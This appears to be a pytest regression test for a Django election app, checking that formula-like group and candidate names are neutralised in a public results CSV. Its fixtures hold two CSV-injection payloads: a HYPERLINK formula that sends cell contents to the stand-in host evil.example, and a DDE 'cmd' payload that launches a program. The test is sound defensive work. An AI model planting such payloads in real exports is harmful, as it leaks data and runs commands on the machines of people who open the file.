"""Issue 10: the seat-group name was written raw into the public results CSV. Every cell of the
download – group, candidate, outcome – is neutralised by the shared writer (core.tabular), so a
spreadsheet never runs a name as a formula."""

import csv
import io

import pytest
from django.urls import reverse

from elections.models import ElectionPage

from . import factories

pytestmark = pytest.mark.django_db

GROUP = '=HYPERLINK("https://evil.example/?"&A2;"Klik her")'
CANDIDATE = "@SUM(1+1)*cmd|' /C calc'!A0"


def test_formula_like_group_and_candidate_names_are_neutralised_in_the_public_csv(client, council):
    election = factories.election(council, groups=[(GROUP, 1, 0), ("+45 Gruppen", 1, 0)])
    formula_group, plus_group = election.groups.all()
    voters = factories.add_voters(election, 4)
    first = factories.candidate(election, CANDIDATE, group=formula_group)
    factories.candidate(election, "-Minus", group=plus_group)
    factories.candidate(election, "Anna", group=formula_group)
    factories.candidate(election, "Bo", group=plus_group)
    election = factories.open_for_voting(election)
    factories.cast(election, voters.pop()[1], first)
    election = factories.close_and_count(ElectionPage.objects.get(pk=election.pk), publish=True)

    response = client.get(reverse("elections:results_csv", args=[election.pk]))
    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text), delimiter=";"))
    assert rows[0][:3] == ["gruppe", "placering", "kandidat"]
    cells = {(row[0], row[2]) for row in rows[1:]}
    assert cells == {
        ("'" + GROUP, "'" + CANDIDATE),
        ("'" + GROUP, "Anna"),
        ("'+45 Gruppen", "'-Minus"),
        ("'+45 Gruppen", "Bo"),
    }
    for row in rows[1:]:
        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
